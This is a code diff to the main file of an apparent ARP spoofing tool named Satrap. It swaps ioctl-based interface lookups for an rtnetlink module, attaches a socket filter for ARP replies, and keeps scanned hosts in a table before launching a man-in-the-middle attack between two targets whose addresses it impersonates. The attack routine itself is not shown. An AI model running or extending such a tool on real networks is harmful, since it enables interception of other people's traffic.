@@ -1,6 +1,8 @@
 /* Satrap/satrap.c */
 
 #include "arp.h"
+#include "filter.h"
+#include "netif.h"
 
 int main(int argc, char **argv)
 {
@@ -42,102 +44,73 @@ int main(int argc, char **argv)
 
   /* INFORMATION ON THE LOCAL COMPUTER:
      - index number of the network interface
-     - local IP address
+     - local IP address and network prefix
      - local MAC address
-     - subnet mask
+     They all come from a single rtnetlink dump of the interfaces,
+     which sees their secondary addresses too.
   */
-
-  /* Since this is very low-level, we can't use the usual interface
-     name (e.g. "eth0"), so we need to get the index number of the
-     ethernet interface. */
-  //char *if_name = "wlp3s0"; /* Change this if needed */
-  struct ifreq ifrindex;
-  size_t if_name_len = strlen(if_name);
-  if (if_name_len < sizeof(ifrindex.ifr_name)) {
-    memcpy(ifrindex.ifr_name, if_name, if_name_len);
-    ifrindex.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+  const struct netif *netif = netif_lookup(if_name);
+  if (!netif) {
+    perror("[FAIL] netif_lookup()");
+    exit(EXIT_FAILURE);
   }
-  /* We use ioctl() with SIOCGIFINDEX */
-  if (ioctl(sockfd, SIOCGIFINDEX, &ifrindex) == -1) {
-    perror("[FAIL] ioctl()");
+  if (netif->type != ARPHRD_ETHER) {
+    printf("[FAIL] Interface %s is not an Ethernet interface\n", if_name);
     exit(EXIT_FAILURE);
   }
-  int ifindex = ifrindex.ifr_ifindex;
+  int ifindex = netif->index;
 #ifdef DEBUG
   printf("[OK] Index number of the Ethernet interface %s: %d\n", if_name, ifindex);
 #endif
 
-  /* We get our IP address using ioctl() and SIOCGIFADDR */
-  struct ifreq ifraddr;
-  if (if_name_len < sizeof(ifraddr.ifr_name)) {
-    memcpy(ifraddr.ifr_name, if_name, if_name_len);
-    ifraddr.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
-  }
-  if (ioctl(sockfd, SIOCGIFADDR, &ifraddr) == -1) {
-    perror("[FAIL] ioctl()");
-    exit(EXIT_FAILURE);
-  }
-  struct sockaddr_in *ipaddr = (struct sockaddr_in *) &ifraddr.ifr_addr;
-  char local_ip_string[16];
-  if (!inet_ntop(AF_INET, &ipaddr->sin_addr, local_ip_string, sizeof(local_ip_string))) {
-    perror("[FAIL] inet_ntop()");
+  const struct netif_addr *local = netif_primary(netif);
+  if (!local) {
+    printf("[FAIL] No IPv4 address on interface %s\n", if_name);
     exit(EXIT_FAILURE);
   }
-  printf("[OK] Local IP address: %s\n", local_ip_string);
+  struct sockaddr_in local_addr = { .sin_family = AF_INET, .sin_addr = local->addr };
+  struct sockaddr_in *ipaddr = &local_addr;
+  printf("[OK] Local IP address: %s/%u\n", inet_ntoa(local->addr), local->prefix);
 
-  
-  /* We get the MAC address using ioctl() (again) with SIOCGIFHWADDR */
-  struct ifreq ifrhwaddr;
-  if (if_name_len < sizeof(ifrhwaddr.ifr_name)) {
-    memcpy(ifrhwaddr.ifr_name, if_name, if_name_len);
-    ifrhwaddr.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
-  }
-  if (ioctl(sockfd, SIOCGIFHWADDR, &ifrhwaddr) == -1) {
-    perror("[FAIL] ioctl()");
-    exit(EXIT_FAILURE);
-  }
-  unsigned char *macaddr = (unsigned char *) &ifrhwaddr.ifr_hwaddr.sa_data;
+  unsigned char macaddr[ETHER_ADDR_LEN];
+  memcpy(macaddr, netif->macaddr, ETHER_ADDR_LEN);
   printf("[OK] Local MAC address: %02x:%02x:%02x:%02x:%02x:%02x\n",
 	 macaddr[0], macaddr[1], macaddr[2], macaddr[3], macaddr[4], macaddr[5]);
 
+  struct sockaddr_in netmask_addr = { .sin_family = AF_INET,
+				      .sin_addr = netif_netmask(local->prefix) };
+  struct sockaddr_in *netmask = &netmask_addr;
 
-  /* We get the subnet mask using ioctl() with SIOCGIFNETMASK */
-  struct ifreq ifrnetmask;
-  if (if_name_len < sizeof(ifrnetmask.ifr_name)) {
-    memcpy(ifrnetmask.ifr_name, if_name, if_name_len);
-    ifrnetmask.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+
+
+
+  /* ====================================================================== */
+
+  /* Every frame goes through the socket */
+  struct frame_io io;
+  if (frame_io_socket(&io, sockfd, ifindex) == -1) {
+    perror("[FAIL] frame_io_socket()");
+    exit(EXIT_FAILURE);
   }
-  if (ioctl(sockfd, SIOCGIFNETMASK, &ifrnetmask) == -1) {
-    perror("[FAIL] ioctl()");
+
+  /* Only the ARP replies for us reach userspace: the filter is built
+     from the local addresses, and attached to the socket */
+  struct arp_filter filter;
+  filter_init(&filter, macaddr, ipaddr->sin_addr);
+  if (filter_attach(sockfd, &filter) == -1) {
+    perror("[FAIL] filter_attach()");
     exit(EXIT_FAILURE);
   }
-  struct sockaddr_in *netmask = (struct sockaddr_in *) &ifrnetmask.ifr_netmask;
-  char netmask_string[16];
-  if (!inet_ntop(AF_INET, &netmask->sin_addr, netmask_string, sizeof(netmask_string))) {
-    perror("[FAIL] inet_ntop()");
+  /* The hosts found by the scan are remembered, so the attack does
+     not need to ask the targets again */
+  struct host_table hosts;
+  if (hosts_init(&hosts, 0) == -1) {
+    perror("[FAIL] hosts_init()");
     exit(EXIT_FAILURE);
   }
-  printf("[OK] Local netmask: %s\n", netmask_string);
-
-
-
-
-  /* ====================================================================== */
 
   /* ARP scan of the subnet */
-  arp_scan(sockfd, ifindex, ipaddr, macaddr, netmask);
+  arp_scan(&io, &hosts, ipaddr, macaddr, netmask);
 
 
 
@@ -168,11 +141,19 @@ int main(int argc, char **argv)
 
   /* ====================================================================== */
 
+  /* The replies for the impersonated targets are accepted too */
+  filter_add_ip(&filter, target1_ip);
+  filter_add_ip(&filter, target2_ip);
+  if (filter_attach(sockfd, &filter) == -1) {
+    perror("[FAIL] filter_attach()");
+    exit(EXIT_FAILURE);
+  }
+
   /* ARP man-in-the-middle attack */
   printf("ARP man-in-the-middle attack on interface %s between %s and %s\n",
 	 if_name, target1_ip_string, target2_ip_string);
 
-  arp_mitm(sockfd, ifindex, ipaddr, macaddr, &target1_ip, &target2_ip);
+  arp_mitm(&io, &hosts, ipaddr, macaddr, &target1_ip, &target2_ip);
   
   return EXIT_SUCCESS;
 }